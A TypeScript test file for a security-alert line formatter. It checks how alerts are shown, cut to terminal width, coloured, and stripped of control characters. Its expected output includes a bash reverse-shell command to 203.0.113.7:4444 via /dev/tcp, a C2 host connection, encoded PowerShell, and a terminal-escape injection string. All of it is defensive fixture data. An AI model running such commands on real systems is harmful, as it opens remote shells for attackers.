import { expect, test } from "bun:test";
import { agent, inputs, rule } from "../../test/fixtures/alerts/inputs.ts";
import { AlertEncoder, type AlertInput, useColor } from "./mod.ts";

const encoder = new AlertEncoder({ agent });
const plain = { color: false, width: 0 };

function line(name: string, options: { color: boolean; width: number } = plain): string {
  const input = inputs[name];
  if (input === undefined) throw new Error(`no input ${name}`);
  return encoder.alert(input).compact(options);
}

test("a line says when, how bad, which rule, which process, who, and what it did", () => {
  expect(line("linux-process")).toBe(
    "02:14:33.123  high  Reverse shell through /dev/tcp  bash[4242]  root  bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
  );
  expect(line("linux-network")).toBe(
    "02:14:33.123  med   Connection to a test address  bash[4242]  root  → c2.example.com:4444",
  );
  expect(line("linux-file-yara")).toBe(
    "02:14:33.123  crit  Suspicious_ELF  bash[4200]  alice  /home/alice/.cache/x.tar.gz",
  );
  expect(line("windows-process-replay")).toBe(
    "2026-11-22 02:14:33  high  Encoded PowerShell  powershell.exe[15596]  bob  powershell.exe -enc SQBFAFgA",
  );
  expect(line("windows-dns-ioc-replay")).toBe("2026-11-22 02:14:33  high  Domain of a campaign  x.exe  ? bad.example");
  expect(line("windows-registry-replay")).toBe(
    "2026-11-22 02:14:33  low   Run key  regedit.exe  HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater = DWORD (0x0000000a)",
  );
});

test("telemetry and states have lines too", () => {
  const input = inputs["linux-process"] as AlertInput;
  expect(encoder.event(input).compact(plain)).toStartWith("02:14:33.123  evt   process_start  bash[4242]");
  const state = encoder.state({
    kind: "state",
    timeMs: 0,
    action: "x",
    message: "Lines are dropped",
    values: { dropped: 3, deep: {} },
  });
  expect(state.compact(plain)).toBe("00:00:00.000  stat  Lines are dropped  dropped=3");
});

test("the last part is cut to the width of the terminal, wide characters counted as two columns", () => {
  expect(line("linux-process", { color: false, width: 80 })).toBe(
    "02:14:33.123  high  Reverse shell through /dev/tcp  bash[4242]  root  bash -c b…",
  );
  const input = inputs["linux-process"] as AlertInput;
  const wide = { ...input, process: { entityId: "E", pid: 1, name: "x", commandLine: "文字".repeat(100) } };
  for (const width of [10, 20, 60, 61, 100])
    expect(Bun.stringWidth(encoder.alert(wide).compact({ color: false, width }))).toBeLessThanOrEqual(width);
  const narrow = line("linux-process", { color: true, width: 20 });
  expect(Bun.stringWidth(narrow)).toBe(20);
});

test("colours do not change the text", () => {
  for (const width of [0, 80, 100]) {
    const colored = line("linux-process", { color: true, width });
    expect(colored).toContain("\x1b[31mhigh\x1b[0m");
    expect(Bun.stripANSI(colored)).toBe(line("linux-process", { color: false, width }));
  }
});

test("nothing that an event or a rule says can drive the terminal or begin a second line", () => {
  const evil = "a\x1b[2J\x1b]0;title\x07\nfake 00:00 crit\r\x9b31m\u202egnp.exe\u2028\ud800";
  const input: AlertInput = {
    hit: { engine: "sigma", rule: rule({ title: evil }), matches: [] },
    process: { entityId: "E", pid: 1, name: evil, commandLine: evil, user: { id: "0", name: evil } },
    event: { kind: "process_start", timeMs: 0, provider: "ebpf", code: "1", fields: { Image: evil }, truncated: [] },
  };
  for (const width of [0, 40, 300]) {
    const text = encoder.alert(input).compact({ color: false, width });
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what must not be there.
    expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]|\p{Surrogate}/u);
  }
  expect(encoder.alert(input).compact(plain)).toContain("a\\x1b[2J\\x1b]0;title\\x07\\nfake");
});

test("colour follows NO_COLOR, then FORCE_COLOR, then the terminal", () => {
  expect(useColor({}, true)).toBe(true);
  expect(useColor({}, false)).toBe(false);
  expect(useColor({ TERM: "dumb" }, true)).toBe(false);
  expect(useColor({ NO_COLOR: "1" }, true)).toBe(false);
  expect(useColor({ NO_COLOR: "" }, true)).toBe(true);
  expect(useColor({ FORCE_COLOR: "1" }, false)).toBe(true);
  expect(useColor({ FORCE_COLOR: "0" }, true)).toBe(false);
  expect(useColor({ NO_COLOR: "1", FORCE_COLOR: "1" }, true)).toBe(false);
});
